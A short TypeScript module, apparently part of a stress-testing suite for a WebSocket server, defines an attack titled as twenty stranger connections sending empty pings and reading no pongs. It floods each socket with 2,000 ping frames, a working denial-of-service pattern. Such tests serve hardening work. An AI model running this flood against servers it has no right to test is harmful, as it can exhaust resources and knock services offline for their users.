import { type Attack, flood, frame, openSeveral, openWebSocket } from './attack.ts';

export const pings: Attack = {
  title: '20 WebSockets of a stranger send empty pings and read no pongs',
  async run(target, signal) {
    const sockets = await openSeveral(20, () => openWebSocket(target), signal);
    const many = Buffer.concat(Array.from({ length: 2_000 }, () => frame(9, Buffer.alloc(0))));
    await flood(sockets, many, signal);
  },
};
